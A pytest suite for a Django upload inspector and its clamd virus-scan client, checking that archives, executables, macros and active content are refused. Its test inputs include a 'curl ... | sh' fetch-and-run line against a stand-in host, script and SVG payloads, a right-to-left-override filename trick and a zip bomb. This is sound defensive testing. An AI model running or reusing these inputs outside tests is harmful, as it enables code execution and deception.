"""What an uploaded attachment is, decided by its content, and the virus scan behind it.

Every file is built here, small but real: a PDF with a cross-reference table, a PNG with valid
checksums, office files written with ``zipfile``. The scan tests talk to a fake clamd that
speaks the real INSTREAM protocol over a unix socket and over TCP; set
``HAVENBEELD_TEST_CLAMD_ADDRESS`` to run the last test against a real clamd as well.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import hashlib
import io
import lzma
import os
import shutil
import socket
import socketserver
import struct
import tarfile
import tempfile
import threading
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from havenbeeld.core import uploads
from havenbeeld.core.uploads import UploadRefused

MAX = 1024 * 1024
# Assembled from halves so that a virus scanner does not quarantine this file.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


# --- Files, built for real ------------------------------------------------------------------

def pdf() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x00\x33\x99")  # one dark-blue pixel
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
        b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) + b"\xff\xd9")
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
       b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"  # noqa: E501
TIFF = b"II*\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"
HEIC = struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic" + bytes(16)
MP4 = struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + bytes(16)

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
EXCEL_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            compression = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=compression)
    return buffer.getvalue()


def office(main_part: str, content_type: str, extra: dict[str, bytes | str] | None = None,
           ) -> bytes:
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
             '.org/package/2006/content-types"><Default Extension="rels" ContentType="application'
             '/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/'
             f'{main_part}" ContentType="{content_type}"/></Types>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package'
            '/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
            f'/officeDocument/2006/relationships/officeDocument" Target="{main_part}"/>'
            '</Relationships>')
    return zipped({"[Content_Types].xml": types, "_rels/.rels": rels,
                   main_part: "<document>Zegelnummer 4471 verbroken</document>", **(extra or {})})


def docx(extra: dict[str, bytes | str] | None = None) -> bytes:
    return office("word/document.xml", WORD, extra)


def opendocument(kind: str, extra: dict[str, bytes | str] | None = None) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}",
                   "content.xml": "<office:document-content/>",
                   "META-INF/manifest.xml": "<manifest:manifest/>", **(extra or {})})


def tar(format: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=format) as archive:
        member = tarfile.TarInfo("vrachtbrief.txt")
        member.size = 5
        archive.addfile(member, io.BytesIO(b"hallo"))
    return buffer.getvalue()


def old_tar() -> bytes:
    """A pre-POSIX (v7) tar: no magic, recognisable only by its header checksum."""
    header = bytearray(tar(tarfile.USTAR_FORMAT)[:512])
    header[257:265] = bytes(8)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header) + bytes(1024)


def windows_executable() -> bytes:
    header = bytearray(128)
    header[0:2] = b"MZ"
    header[2:4] = b"\x90\x00"
    header[0x3C:0x40] = struct.pack("<I", 64)
    header[64:68] = b"PE\x00\x00"
    return bytes(header)


def refused(data: bytes | io.BytesIO, filename: str = "", max_bytes: int = MAX) -> str:
    with pytest.raises(UploadRefused) as refusal:
        uploads.inspect(data, filename=filename, max_bytes=max_bytes)
    return refusal.value.code


# --- Accepted, as what the content is -------------------------------------------------------

@pytest.mark.parametrize(("data", "filename", "mime", "extension"), [
    pytest.param(pdf(), "proces-verbaal.pdf", "application/pdf", "pdf", id="pdf"),
    pytest.param(JPEG, "zegel.jpg", "image/jpeg", "jpg", id="jpeg"),
    pytest.param(png(), "container.png", "image/png", "png", id="png"),
    pytest.param(GIF, "kaart.gif", "image/gif", "gif", id="gif"),
    pytest.param(WEBP, "kade.webp", "image/webp", "webp", id="webp"),
    pytest.param(TIFF, "scan.tif", "image/tiff", "tiff", id="tiff"),
    pytest.param(HEIC, "IMG_4471.HEIC", "image/heic", "heic", id="heic from an iPhone"),
    pytest.param(docx(), "rapport.docx", WORD.removesuffix(".main+xml"), "docx", id="docx"),
    pytest.param(office("xl/workbook.xml", EXCEL), "lijst.xlsx",
                 EXCEL.removesuffix(".main+xml"), "xlsx", id="xlsx"),
    pytest.param(office("ppt/presentation.xml", POWERPOINT), "briefing.pptx",
                 POWERPOINT.removesuffix(".main+xml"), "pptx", id="pptx"),
    pytest.param(opendocument("text"), "notitie.odt",
                 "application/vnd.oasis.opendocument.text", "odt", id="odt"),
    pytest.param(opendocument("spreadsheet"), "telling.ods",
                 "application/vnd.oasis.opendocument.spreadsheet", "ods", id="ods"),
])
def test_an_allowed_file_is_accepted_as_what_it_is(data, filename, mime, extension):
    inspected = uploads.inspect(data, filename=filename, max_bytes=MAX)
    assert (inspected.mime, inspected.extension) == (mime, extension)
    assert inspected.size == len(data)
    assert inspected.filename_matches
    assert str(inspected.label)


@pytest.mark.parametrize("data", [
    pytest.param("Aankomst MSC Gülsün, ’s-Gravendeel, kosten € 12,50; café gesloten.\r\n"
                 .encode("cp1252"), id="windows-1252"),
    pytest.param("Reünie op de kade in Vlissingen, 3 containers".encode("latin-1"),
                 id="latin-1"),
    pytest.param("Zegel verbroken: containernummer MSCU1234565\n".encode("utf-16"),
                 id="utf-16 with byte order mark"),
    pytest.param("\ufeffcontainer;zegel;terminal\nMSCU1234565;4471;Maasvlakte\n"
                 .encode("utf-8"), id="csv from Excel, utf-8 with byte order mark"),
    pytest.param(b"MZ Shipping B.V.;Rotterdam;24123456\nMaersk;Maasvlakte;12345678\n",
                 id="csv whose first company is MZ Shipping"),
    pytest.param(b"MZ", id="just the letters MZ"),
    pytest.param(b"From: meldpunt@terminal.example\nSubject: Zegel\nContent-Type: text/html\n\n"
                 b"<html><body><p>Zegel 4471 verbroken</p></body></html>\n",
                 id="e-mail with an html part"),
    pytest.param(b'<?xml version="1.0"?>\n<manifest><container>MSCU1234565</container>'
                 b"</manifest>\n", id="xml data"),
])
def test_plain_text_is_accepted_as_text_whatever_its_encoding(data):
    inspected = uploads.inspect(data, filename="melding.csv", max_bytes=MAX)
    assert (inspected.mime, inspected.extension) == ("text/plain", "txt")


def test_a_pdf_named_jpg_is_kept_as_the_pdf_it_is():
    inspected = uploads.inspect(pdf(), filename="photo.jpg", max_bytes=MAX)
    assert (inspected.mime, inspected.extension) == ("application/pdf", "pdf")
    assert not inspected.filename_matches


def test_the_filename_is_judged_on_its_last_part_only():
    inspected = uploads.inspect(pdf(), filename="C:\\Users\\Kade 7\\scan.v2\\bon.PDF",
                                max_bytes=MAX)
    assert inspected.filename_matches


def test_the_fingerprint_is_the_sha256_of_the_content():
    inspected = uploads.inspect(io.BytesIO(b"zegel 4471\n"), max_bytes=MAX)
    assert inspected.sha256 == hashlib.sha256(b"zegel 4471\n").hexdigest()


def test_a_django_upload_can_be_read_again_after_inspection_and_scanning():
    upload = SimpleUploadedFile("zegel.png", png(), content_type="application/octet-stream")
    assert uploads.inspect(upload, filename=upload.name, max_bytes=MAX).mime == "image/png"
    assert uploads.scan(upload, clamd_address=None).status == "not_scanned"
    assert upload.read() == png()


# --- Refused --------------------------------------------------------------------------------

@pytest.mark.parametrize(("data", "code"), [
    pytest.param(zipped({"foto.jpg": JPEG, "leesmij.txt": "hallo"}), "archive", id="zip"),
    pytest.param(b"PK\x03\x04" + bytes(200), "archive", id="damaged zip"),
    pytest.param(zipped({"[Content_Types].xml": "<Types/>", "visio/page.xml": "<p/>"}),
                 "archive", id="zip with content types but no office parts"),
    pytest.param(gzip.compress(b"hallo" * 100), "archive", id="gzip"),
    pytest.param(bz2.compress(b"hallo" * 100), "archive", id="bzip2"),
    pytest.param(lzma.compress(b"hallo" * 100), "archive", id="xz"),
    pytest.param(tar(tarfile.PAX_FORMAT), "archive", id="tar"),
    pytest.param(tar(tarfile.GNU_FORMAT), "archive", id="gnu tar"),
    pytest.param(old_tar(), "archive", id="v7 tar"),
    pytest.param(b"Rar!\x1a\x07\x01\x00" + bytes(40), "archive", id="rar"),
    pytest.param(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40), "archive", id="7z"),
    pytest.param(b"\x28\xb5\x2f\xfd\x24\x05\x29\x00\x00hallo", "archive", id="zstd"),
    pytest.param(b"MSCF\x00\x00\x00\x00" + bytes(40), "archive", id="cab"),
    pytest.param(bytes(0x8000) + b"\x01CD001\x01" + bytes(2041), "archive", id="iso image"),
    pytest.param(png() + zipped({"payload.js": "alert(1)"}), "archive",
                 id="png with a zip appended"),
    pytest.param(b"\x7fELF\x02\x01\x01\x00" + bytes(56), "executable", id="elf"),
    pytest.param(windows_executable(), "executable", id="windows exe"),
    pytest.param(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24), "executable", id="mach-o"),
    pytest.param(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(24), "executable",
                 id="java class"),
    pytest.param(b"\x00asm\x01\x00\x00\x00", "executable", id="webassembly"),
    pytest.param(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "executable",
                 id="shell script"),
    pytest.param(b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
                 + bytes(56), "executable", id="windows shortcut"),
    pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "macro",
                 id="old office file or msi"),
    pytest.param(office("xl/workbook.xml", EXCEL_MACROS, {"xl/vbaProject.bin": b"\x00VBA"}),
                 "macro", id="xlsm"),
    pytest.param(office("xl/workbook.xml", EXCEL, {"xl/vbaProject.bin": b"\x00VBA"}), "macro",
                 id="xlsm renamed to xlsx"),
    pytest.param(office("xl/workbook.xml", EXCEL, {"xl/macrosheets/sheet1.xml": "<xm/>"}),
                 "macro", id="excel 4.0 macro sheet"),
    pytest.param(opendocument("text", {"Basic/Standard/Module1.xml": "<script:module/>"}),
                 "macro", id="odt with basic macros"),
    pytest.param(b"<!DOCTYPE html>\n<html><body>Log in</body></html>", "active_content",
                 id="html"),
    pytest.param(b"  <HTML><form action=https://example.invalid>", "active_content",
                 id="html without doctype"),
    pytest.param(b'<?xml version="1.0"?>\n<!-- Inkscape -->\n<svg xmlns="http://www.w3.org/2000'
                 b'/svg" onload="alert(1)"/>', "active_content", id="svg"),
    pytest.param('<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"),
                 "active_content", id="svg in utf-16"),
    pytest.param(b"Zegel 4471\n" * 200 + b"<ScRiPt>fetch('/api')</script>\n",
                 "active_content", id="text with a script far down"),
    pytest.param(b"{\\rtf1\\ansi{\\object\\objemb}}", "unknown_type", id="rtf"),
    pytest.param(MP4, "unknown_type", id="mp4 video"),
    pytest.param(bytes(range(256)) * 4, "unknown_type", id="binary"),
    pytest.param("tekst".encode("utf-32"), "unknown_type", id="utf-32"),
    pytest.param(b"Zegel\x00 4471\n", "unknown_type", id="text with a nul byte"),
])
def test_a_file_that_may_not_be_kept_is_refused_with_its_reason(data, code):
    assert refused(data, filename="bijlage.pdf") == code


def test_an_empty_file_is_refused():
    assert refused(b"", filename="leeg.txt") == "empty"
    assert refused(io.BytesIO(b""), filename="leeg.txt") == "empty"


def test_a_file_over_the_limit_is_refused():
    assert refused(b"x" * 1001, max_bytes=1000) == "too_large"
    assert uploads.inspect(b"x" * 1000, max_bytes=1000).size == 1000


class EndlessStream(io.RawIOBase):
    """A stream that never ends, counting what it hands out."""

    def __init__(self) -> None:
        self.handed_out = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[override]
        buffer[:] = b"a" * len(buffer)
        self.handed_out += len(buffer)
        return len(buffer)


def test_a_huge_upload_is_refused_after_reading_just_past_the_limit():
    stream = EndlessStream()
    assert refused(stream, max_bytes=300_000) == "too_large"
    assert stream.handed_out == 300_001


def test_a_zip_bomb_dressed_as_a_word_document_is_refused():
    bomb = docx({"word/media/padding.xml": " " * 300_000})
    assert len(bomb) < 10_000
    assert refused(bomb, max_bytes=10_000) == "bomb"


def test_a_word_document_with_too_many_entries_is_refused():
    parts: dict[str, bytes | str] = {f"word/media/image{n}.xml": "" for n in range(10_001)}
    assert refused(docx(parts), max_bytes=5 * MAX) == "bomb"


def test_the_refusal_names_the_file_without_its_hidden_characters():
    with pytest.raises(UploadRefused) as refusal:
        uploads.inspect(windows_executable(), filename="uploads/factuur\u202egpj.exe",
                        max_bytes=MAX)
    assert "factuurgpj.exe" in refusal.value.message
    assert "\u202e" not in refusal.value.message and "uploads/" not in refusal.value.message
    assert isinstance(refusal.value, ValueError)


MAGIC = [b"PK\x03\x04", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"MZ", b"\x00\x00\x00\x18ftyp",
         b"RIFF", b"BZh9", b"\xef\xbb\xbf", b"\xff\xfe", b"<?xml ", b"<!--", b""]


@settings(derandomize=True, max_examples=300, deadline=None)
@given(prefix=st.sampled_from(MAGIC), rest=st.binary(max_size=700))
def test_any_content_is_either_accepted_or_refused_never_a_crash(prefix, rest):
    try:
        inspected = uploads.inspect(prefix + rest, max_bytes=MAX)
    except UploadRefused as refusal:
        assert refusal.code in {"empty", "archive", "bomb", "executable", "macro",
                                "active_content", "unknown_type"}
    else:
        assert inspected.mime in {kind.mime for kind in uploads.ALLOWED_TYPES}


def test_markup_detection_takes_linear_time_on_nested_comments():
    # A prefix that a backtracking pattern would need 2**n tries to give up on.
    assert uploads.inspect(b"<??>" * 5_000 + b"zegel", max_bytes=MAX).mime == "text/plain"


# --- Scanning without a clamd: the documented EICAR stub --------------------------------------

def test_without_clamd_the_eicar_test_file_is_refused_as_infected():
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(EICAR, clamd_address=None, filename="eicar.com")
    assert refusal.value.code == "infected"
    assert refusal.value.scan_result == uploads.ScanResult(
        "infected", "Eicar-Test-Signature", "builtin")


def test_without_clamd_eicar_is_found_inside_a_file_too():
    with pytest.raises(UploadRefused):
        uploads.scan(io.BytesIO(b"Zegel 4471\n" * 100 + EICAR), clamd_address=None)


def test_without_clamd_a_file_is_reported_as_not_scanned_never_as_clean():
    assert uploads.scan(pdf(), clamd_address=None) == uploads.ScanResult(
        "not_scanned", "", "builtin")


def test_without_clamd_only_the_first_64_kib_are_searched():
    late = b"a" * uploads.BUILTIN_SCAN_BYTES + EICAR
    assert uploads.scan(late, clamd_address=None).status == "not_scanned"


# --- Scanning with clamd, over the real protocol ----------------------------------------------

class FakeClamdHandler(socketserver.StreamRequestHandler):
    """Just enough of clamd: the INSTREAM command as its manual describes it."""

    server: FakeClamdServer

    def handle(self) -> None:
        command = b""
        while not command.endswith(b"\x00"):
            byte = self.rfile.read(1)
            if not byte:
                return
            command += byte
        if command != b"zINSTREAM\x00":
            self.reply(b"UNKNOWN COMMAND\x00")
            return
        received = bytearray()
        while True:
            header = self.rfile.read(4)
            if len(header) < 4:
                return
            (length,) = struct.unpack(">I", header)
            if length == 0:
                break
            received += self.rfile.read(length)
        self.server.scanned.append(bytes(received))
        self.server.release.wait(10)
        if self.server.answer is not None:
            self.reply(self.server.answer)
        elif EICAR in received:
            self.reply(b"stream: Eicar-Signature FOUND\x00")
        else:
            self.reply(b"stream: OK\x00")

    def reply(self, answer: bytes) -> None:
        with contextlib.suppress(OSError):  # the client may have given up waiting
            self.wfile.write(answer)


class FakeClamdServer(socketserver.ThreadingMixIn, socketserver.BaseServer):
    daemon_threads = True
    block_on_close = False
    answer: bytes | None = None
    scanned: list[bytes]
    release: threading.Event


class UnixClamd(FakeClamdServer, socketserver.UnixStreamServer):
    pass


class TcpClamd(FakeClamdServer, socketserver.TCPServer):
    pass


@dataclass
class Clamd:
    address: str
    server: FakeClamdServer


@pytest.fixture(params=["unix", "tcp"])
def clamd(request) -> Iterator[Clamd]:
    directory = tempfile.mkdtemp(prefix="clamd-", dir="/tmp")  # short: unix paths are limited
    server: FakeClamdServer
    if request.param == "unix":
        path = os.path.join(directory, "clamd.ctl")
        server = UnixClamd(path, FakeClamdHandler)
        address = f"unix:{path}"
    else:
        server = TcpClamd(("127.0.0.1", 0), FakeClamdHandler)
        address = f"tcp:127.0.0.1:{server.server_address[1]}"
    server.scanned = []
    server.release = threading.Event()
    server.release.set()
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield Clamd(address, server)
    server.release.set()
    server.shutdown()
    server.server_close()
    thread.join(5)
    shutil.rmtree(directory)


def test_clamd_passes_a_clean_file(clamd):
    assert uploads.scan(pdf(), clamd_address=clamd.address) == uploads.ScanResult(
        "clean", "", "clamd")
    assert clamd.server.scanned == [pdf()]


def test_clamd_refuses_the_eicar_test_file_with_its_signature(clamd):
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(EICAR, clamd_address=clamd.address, filename="eicar.com")
    assert refusal.value.code == "infected"
    assert refusal.value.scan_result == uploads.ScanResult("infected", "Eicar-Signature",
                                                           "clamd")
    assert "eicar.com" in refusal.value.message


def test_clamd_receives_the_whole_of_a_large_stream_and_it_is_put_back(clamd):
    content = b"Zegel 4471\n" * 30_000 + EICAR  # well past one chunk and the stub's 64 KiB
    stream = io.BytesIO(content)
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(stream, clamd_address=clamd.address)
    assert refusal.value.code == "infected"
    assert clamd.server.scanned == [content]
    assert stream.read() == content


def test_a_clamd_error_counts_as_no_scan(clamd):
    clamd.server.answer = b"INSTREAM size limit exceeded. ERROR\x00"
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(pdf(), clamd_address=clamd.address)
    assert refusal.value.code == "scanner_unavailable"


def test_a_clamd_that_does_not_answer_in_time_counts_as_no_scan(clamd):
    clamd.server.release.clear()
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(pdf(), clamd_address=clamd.address, timeout=0.3)
    assert refusal.value.code == "scanner_unavailable"


def unused_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.mark.parametrize("address", [
    pytest.param("unix:/tmp/havenbeeld-no-such-dir/clamd.ctl", id="unix"),
    pytest.param(f"tcp:127.0.0.1:{unused_port()}", id="tcp"),
])
def test_a_configured_clamd_that_cannot_be_reached_refuses_rather_than_accepts(address):
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(pdf(), clamd_address=address, filename="rapport.pdf")
    assert refusal.value.code == "scanner_unavailable"
    assert "rapport.pdf" in refusal.value.message


@pytest.mark.parametrize("address", ["", "clamd.ctl", "unix:", "tcp:localhost", "tcp::3310",
                                     "tcp:localhost:99999", "udp:localhost:3310"])
def test_a_malformed_clamd_address_is_a_configuration_error(address):
    with pytest.raises(ImproperlyConfigured):
        uploads.scan(pdf(), clamd_address=address)


def test_clamd_addresses_are_parsed():
    assert uploads.parse_clamd_address("unix:/run/clamav/clamd.ctl") == "/run/clamav/clamd.ctl"
    assert uploads.parse_clamd_address("tcp:clamav:3310") == ("clamav", 3310)
    assert uploads.parse_clamd_address("tcp:[::1]:3310") == ("::1", 3310)


REAL_CLAMD = os.environ.get("HAVENBEELD_TEST_CLAMD_ADDRESS")


@pytest.mark.skipif(not REAL_CLAMD, reason="HAVENBEELD_TEST_CLAMD_ADDRESS is not set; the "
                    "fake clamd above covers the protocol")
def test_a_real_clamd_refuses_eicar_and_passes_a_pdf():
    assert REAL_CLAMD
    with pytest.raises(UploadRefused) as refusal:
        uploads.scan(EICAR, clamd_address=REAL_CLAMD)
    assert refusal.value.code == "infected"
    assert uploads.scan(pdf(), clamd_address=REAL_CLAMD).status == "clean"
